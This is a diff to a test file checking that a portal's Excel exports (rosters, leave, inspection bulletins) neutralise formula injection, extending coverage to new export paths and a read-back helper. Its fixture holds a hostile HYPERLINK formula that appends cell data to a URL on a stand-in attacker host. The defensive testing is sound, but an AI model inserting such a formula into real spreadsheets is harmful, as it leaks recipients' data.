@@ -12,7 +12,7 @@ from portal.extensions import db
 from portal.inspections import bulletins, conduct
 from portal.leave import rules as leave_rules
 from portal.leave.models import LeaveType
-from portal.spreadsheet import safe
+from portal.spreadsheet import safe, unsafe
 from tests.conftest import Auth
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&B3,"点我")'
@@ -55,6 +55,9 @@ def export_paths(ids: dict[str, int]) -> list[str]:
         f"/assessment/communities/{ids['community']}/export.xlsx?period=2026-Q4",
         f"/inspections/bulletins/{ids['bulletin']}/bulletin.xlsx",
         "/admin/roster/template.xlsx",
+        "/admin/roster/export.xlsx",
+        f"/admin/roster/export.xlsx?community={ids['community']}",
+        f"/leave/communities/{ids['community']}/entitlements.xlsx?year=2026",
     ]
 
 
@@ -82,11 +85,13 @@ def test_no_cell_of_any_export_is_a_formula(app):
                     if isinstance(cell.value, str) and "evil.example" in cell.value:
                         seen_hostile += 1
                         assert cell.value == "'" + HOSTILE, (path, cell.coordinate, cell.value)
-    assert seen_hostile >= 5  # the name in both sheets, the leave, the assessment, the 通报's note
+    assert seen_hostile >= 8  # the name in both sheets, the leave, the assessment, the 通报's note, the
+    # district's and the community's 花名册, the 年休假一览
 
 
 def test_text_that_looks_like_a_formula_is_kept_as_text_and_plain_values_are_untouched():
     for value in (HOSTILE, *OTHERS):
         assert safe(value) == "'" + value
-    for value in ("王巴特尔", "第1网格", "—", 12, 3.5, None, "3-2-301"):
-        assert safe(value) == value
+        assert unsafe(safe(value)) == value  # a roster read back has its text as it was
+    for value in ("王巴特尔", "第1网格", "—", 12, 3.5, None, "3-2-301", "'引号开头"):
+        assert safe(value) == value and unsafe(value) == value
